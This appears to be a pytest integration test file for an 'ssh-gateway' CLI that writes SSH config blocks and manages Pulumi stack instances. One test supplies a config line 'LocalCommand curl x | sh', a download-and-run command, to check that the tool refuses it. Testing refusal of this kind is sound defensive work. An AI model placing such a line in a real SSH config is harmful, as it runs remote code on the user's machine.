"""The `ssh-gateway` console script from .venv/bin, end to end: ssh-config into a temporary HOME read back by the
real `ssh -G`, and instances add/remove on a real stack whose preview (the real CLI) shows the new port."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from pulumi import automation as auto

from pangolin_emulator.harness import EmulatorHandle
from ssh_gateway.ops.shared.automation import stack_file, workspace_options
from ssh_gateway.ops.tools.instance_edits import add_instance
from ssh_gateway.plumbing.toolchain import REPO

from .cli import pulumi, run
from .conftest import StackFactory, stack_config, static_instance

pytestmark = pytest.mark.integration

SSH_GATEWAY = REPO / ".venv" / "bin" / "ssh-gateway"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAi5LozFLqWuY6k4TyD1C+Oys0CW2N2WqpjyAxjMsw+d"
USER_CONFIG = b"# my own\nServerAliveInterval 42\n\nHost mine\n    HostName mine.example.org\n    User me\n"
COMMANDS = (
    "demo",
    "doctor",
    "drift-check",
    "preview-summary",
    "ssh-config",
    "host-identity",
    "gateway-config",
    "instances",
    "recover",
    "up",
    "shards",
    "local-cluster",
    "local-backend",
)


def cli(*args: str, home: Path | None = None) -> subprocess.CompletedProcess[str]:
    return run([str(SSH_GATEWAY), *args], env={"HOME": str(home)} if home else None)


def ssh_g(home: Path, alias: str) -> dict[str, str]:
    """What the real ssh makes of the config for `alias` (`ssh -G`: parse only, no connection)."""
    result = subprocess.run(
        ["ssh", "-F", str(home / ".ssh" / "config"), "-G", alias], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stderr
    return {key: value for key, _, value in (line.partition(" ") for line in result.stdout.splitlines())}


def snapshot(home: Path) -> dict[Path, bytes]:
    return {path: path.read_bytes() for path in home.rglob("*") if path.is_file()}


def test_help_runs_from_the_venv() -> None:
    result = subprocess.run([str(SSH_GATEWAY), "--help"], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    for command in COMMANDS:
        assert f"    {command}" in result.stdout
    assert "exit codes:\n  0  success" in result.stdout
    for command in COMMANDS:
        sub = subprocess.run([str(SSH_GATEWAY), command, "--help"], capture_output=True, text=True, check=False)
        assert sub.returncode == 0, sub.stderr
        assert "examples:\n  ssh-gateway" in sub.stdout and "exit codes:\n  0  " in sub.stdout, command
    nothing = subprocess.run([str(SSH_GATEWAY)], capture_output=True, text=True, check=False)
    assert nothing.returncode == 2 and "usage: ssh-gateway" in nothing.stderr


def test_the_parser_loads_no_pulumi_sdk() -> None:
    """Every command registers its parser (the doctor's and drift-check's included) without the Pulumi SDK, which
    takes seconds to import: `--help` stays instant."""
    probe = (
        "import sys; from ssh_gateway.ops.cli import build_parser; build_parser(); "
        "print(sorted(m for m in sys.modules if m == 'pulumi' or m.startswith('pulumi.')))"
    )
    python = REPO / ".venv" / "bin" / "python"
    result = subprocess.run([str(python), "-c", probe], capture_output=True, text=True, check=False, cwd=REPO)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "[]"


def test_ssh_config_writes_blocks_ssh_reads_and_a_second_run_changes_nothing(
    emulator: EmulatorHandle, make_stack: StackFactory, tmp_path: Path
) -> None:
    stack = make_stack(stack_config(emulator, [static_instance("a", hostKey=KEY), static_instance("b", user="bob")]))
    ports = {name: int(ep["port"]) for name, ep in stack.up().outputs["endpoints"].value.items()}
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    config = home / ".ssh" / "config"
    config.write_bytes(USER_CONFIG)

    dry = cli("ssh-config", "--stack", stack.name, home=home)
    assert dry.returncode == 0, dry.stderr
    assert dry.stdout.startswith("--- ~/.ssh/config\n+++ ~/.ssh/config\n")
    assert f"+Host ssh-a\n+    HostName ssh-a.example.test\n+    Port {ports['a']}\n" in dry.stdout
    assert "dry run: 2 file(s) would change; run again with --write to apply" in dry.stdout
    assert snapshot(home) == {config: USER_CONFIG}

    wrote = cli("ssh-config", "--stack", stack.name, "--write", home=home)
    assert wrote.returncode == 0, wrote.stderr
    known_hosts = home / ".ssh" / "known_hosts.d" / f"ssh-gateway-{stack.name}"
    assert f"wrote ~/.ssh/config, ~/.ssh/known_hosts.d/ssh-gateway-{stack.name}" in wrote.stdout
    assert config.read_bytes().startswith(f"# >>> ssh-gateway {stack.name} >>>\n".encode())
    assert config.read_bytes().endswith(f"# <<< ssh-gateway {stack.name} <<<\n".encode() + USER_CONFIG)
    pins = [line for line in known_hosts.read_text().splitlines() if line.endswith(KEY)]
    assert len(pins) == 1 and "[ssh-a.example.test]:" in pins[0]  # the stack's knownHosts line for a's pin

    a, b = ssh_g(home, "ssh-a"), ssh_g(home, "ssh-b")
    assert (a["hostname"], a["port"], a["user"]) == ("ssh-a.example.test", str(ports["a"]), "root")
    assert (b["hostname"], b["port"], b["user"]) == ("ssh-b.example.test", str(ports["b"]), "bob")
    # The program's block names ~/.ssh/known_hosts.d/ssh-gateway-STACK: written under $HOME, as an absolute path.
    assert a["userknownhostsfile"] == str(known_hosts)
    assert a["stricthostkeychecking"] == "true"
    # The user's own lines mean what they meant: their Host, and the global option for every host.
    mine = ssh_g(home, "mine")
    assert (mine["hostname"], mine["user"], mine["serveraliveinterval"]) == ("mine.example.org", "me", "42")
    assert ssh_g(home, "ssh-a")["serveraliveinterval"] == "42"

    before = snapshot(home)
    again = cli("ssh-config", "--stack", stack.name, "--write", home=home)
    assert again.returncode == 0, again.stderr
    assert again.stdout.startswith(f"no change: the ssh config of stack(s) {stack.name} is up to date")
    assert snapshot(home) == before


def test_ssh_config_takes_a_connect_mode_block_and_refuses_a_local_command(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "config").write_bytes(USER_CONFIG)
    connect = tmp_path / "connect.json"
    connect.write_text(
        json.dumps(
            {
                "sshConfig": "Host ssh-gpu-c\n  HostName ssh-gpu-c.example.test\n  Port 443\n  User carol\n"
                "  HostKeyAlias ssh-gpu-c.example.test\n"
                "  ProxyCommand proxytunnel -q -p gw.example.test:443 -d %h:%p\n",
                "knownHosts": f"@cert-authority *.example.test {KEY}",
            }
        )
    )
    wrote = cli("ssh-config", "--stack", "conn", "--outputs", str(connect), "--include", "--write", home=home)
    assert wrote.returncode == 0, wrote.stderr
    c = ssh_g(home, "ssh-gpu-c")
    assert c["proxycommand"] == "proxytunnel -q -p gw.example.test:443 -d %h:%p"
    assert (c["hostname"], c["port"], c["user"]) == ("ssh-gpu-c.example.test", "443", "carol")
    assert c["hostkeyalias"] == "ssh-gpu-c.example.test"
    assert c["userknownhostsfile"] == f"{home}/.ssh/known_hosts {home}/.ssh/known_hosts.d/ssh-gateway-conn"
    assert (home / ".ssh" / "config").read_bytes() == (
        f"# Added once by `ssh-gateway ssh-config --include`: the stacks' hosts, one file per stack.\n"
        f"Include {home}/.ssh/config.d/ssh-gateway-*\n"
    ).encode() + USER_CONFIG

    before = snapshot(home)
    for line, option in (("LocalCommand curl x | sh", "LocalCommand"), ("Frobnicate yes", "")):
        evil = tmp_path / "evil.json"
        evil.write_text(json.dumps({"sshConfig": f"Host ssh-gpu-e\n  User eve\n  {line}\n"}))
        refused = cli("ssh-config", "--stack", "conn", "--outputs", str(evil), "--include", "--write", home=home)
        assert refused.returncode == 3, refused.stdout + refused.stderr
        if option:
            assert refused.stderr.startswith(f"ssh-gateway: stack conn, Host ssh-gpu-e: option {option} runs a command")
        else:  # an option the real ssh does not know would break every ssh command: ssh -G says so first
            assert "stack conn: ssh cannot read its Host blocks" in refused.stderr
        assert snapshot(home) == before


def test_instances_add_shows_the_new_port_in_the_preview_and_keeps_the_file_comments(
    emulator: EmulatorHandle, make_stack: StackFactory
) -> None:
    stack = make_stack(stack_config(emulator, [static_instance("a")]))
    stack.up()  # a: 40000
    path = stack_file(stack.name)
    path.write_text("# platform-managed: instances come and go through `ssh-gateway instances`\n" + path.read_text())
    target = ["--target", "static", "--static-host", "127.0.0.1", "--static-port", "2222"]

    added = cli("instances", "add", "b", "--stack", stack.name, *target)
    assert added.returncode == 0, added.stdout + added.stderr
    assert "+    - name: b\n+      target: static\n" in added.stdout  # the file's diff, as pulumi indents it
    assert "| `b` | added | `ssh -p 40001 root@ssh-b.example.test` | 127.0.0.1:2222 | — |" in added.stdout
    assert path.read_text().startswith("# platform-managed: instances come and go")

    pinned = cli(
        "instances", "add", "c", "--stack", stack.name, *target, "--port", "40015", "--user", "carol", "--json"
    )
    assert pinned.returncode == 0, pinned.stdout + pinned.stderr
    report = json.loads(pinned.stdout)
    rows = {row["instance"]: row for row in report["preview"]["rows"]}
    assert (rows["c"]["change"], rows["c"]["new_port"]) == ("added", 40015)
    assert rows["c"]["endpoint"] == "ssh -p 40015 carol@ssh-c.example.test"

    before = path.read_bytes()
    bad = cli("instances", "add", "Bad_Name", "--stack", stack.name, *target)
    assert bad.returncode == 3, bad.stdout + bad.stderr
    assert 'ssh-gateway:instances[3].name = "Bad_Name"' in bad.stderr
    assert f"refused, stacks/Pulumi.{stack.name}.yaml is unchanged" in bad.stderr
    assert path.read_bytes() == before

    listed = cli("instances", "list", "--stack", stack.name, "--json")
    assert [entry["name"] for entry in json.loads(listed.stdout)] == ["a", "b", "c"]

    # The README's route for platforms written in Python: the same edit, then the Automation API. And what the
    # previews showed is what `up` gives.
    entry = {"name": "d", "target": "static", "staticHost": "127.0.0.1", "staticPort": 2222}
    path.write_text(add_instance(path.read_text(), entry))
    selected = auto.select_stack(stack.name, work_dir=str(REPO), opts=workspace_options())
    endpoints = selected.up().outputs["endpoints"].value
    assert {name: int(ep["port"]) for name, ep in endpoints.items()} == {"a": 40000, "b": 40001, "c": 40015, "d": 40002}
    assert endpoints["d"]["ssh"] == "ssh -p 40002 root@ssh-d.example.test"

    removed = cli("instances", "remove", "b", "--stack", stack.name)
    assert removed.returncode == 0, removed.stdout + removed.stderr
    assert "| `b` | removed | ~~`ssh -p 40001 root@ssh-b.example.test`~~ |" in removed.stdout
    listed = cli("instances", "list", "--stack", stack.name, "--json")
    assert [entry["name"] for entry in json.loads(listed.stdout)] == ["a", "c", "d"]
    assert path.read_text().startswith("# platform-managed: instances come and go")


CONNECT_STACK = """\
config:
  ssh-gateway:pangolin: {url: "http://127.0.0.1:9/v1", orgId: acme, siteId: 1}
  ssh-gateway:ports: {range: 20000-20019}
  ssh-gateway:gateway: {hostTemplate: 127.0.0.1}
  ssh-gateway:firewall: {enabled: false}
  ssh-gateway:connect:
    gateway: {kind: envoy, listenerPort: 20080, targetHost: 127.0.0.1}
    public: {via: pangolin, port: 20443}
  ssh-gateway:instances:  # the platform's
    - name: gpu-01
      target: static
      staticHost: 127.0.0.1
      staticPort: 2222
"""


def test_instances_add_routing_connect(tmp_path: Path) -> None:
    """`instances add --routing connect`: every instance shape the settings accept can be added, a connect-mode
    one included; a key of port mode on it is refused with the file unchanged. No preview, so no stack."""
    name = f"cli-connect-{tmp_path.name[-12:].replace('_', '-')}"
    path = stack_file(name)
    path.write_text(CONNECT_STACK)
    try:
        static = ["--target", "static", "--static-host", "127.0.0.1", "--static-port", "2225"]
        added = cli("instances", "add", "gpu-c1", "--stack", name, "--routing", "connect", *static, "--no-preview")
        assert added.returncode == 0, added.stdout + added.stderr
        assert "+    - name: gpu-c1\n+      routing: connect\n+      target: static\n" in added.stdout
        listed = json.loads(cli("instances", "list", "--stack", name, "--json").stdout)
        assert listed[-1] == {"name": "gpu-c1", "routing": "connect", "target": "static",
                              "staticHost": "127.0.0.1", "staticPort": 2225}  # fmt: skip

        before = path.read_bytes()
        pinned = cli("instances", "add", "gpu-c2", "--stack", name, "--routing", "connect", *static, "--port", "20005")
        assert pinned.returncode == 3, pinned.stdout + pinned.stderr
        assert "ssh-gateway:instances[2].port = 20005: port is only for routing: port" in pinned.stderr
        assert path.read_bytes() == before
    finally:
        path.unlink()


def test_a_static_stack_needs_no_kubernetes_plugin(
    emulator: EmulatorHandle, make_stack: StackFactory, tmp_path: Path
) -> None:
    """Why scripts/demo bootstraps only venv and cli: a PULUMI_HOME without any plugin runs a static stack, its
    connect-mode instance (static, behind a standalone Envoy) included, as stacks/Pulumi.local.yaml has it."""
    envoy = {"kind": "envoy", "listenerPort": 20080, "targetHost": "127.0.0.1"}
    connect = {"gateway": envoy, "public": {"via": "pangolin", "port": 40443}}
    behind_envoy = static_instance("c", routing="connect", staticPort=2225)
    stack = make_stack(stack_config(emulator, [static_instance("a"), behind_envoy], connect=connect))
    empty_home = tmp_path / "pulumi-home"
    empty_home.mkdir()
    for command in (["preview"], ["up", "--yes"]):
        result = pulumi(*command, "--stack", stack.name, env={"PULUMI_HOME": str(empty_home)})
        assert result.returncode == 0, result.stdout + result.stderr
    assert not (empty_home / "plugins").exists() or not any((empty_home / "plugins").iterdir())
    outputs = stack.outputs()
    assert int(outputs["endpoints"].value["a"]["port"]) == 40000
    assert "outbound|22||ssh-c.default.svc.cluster.local" in outputs["envoyConfig"].value
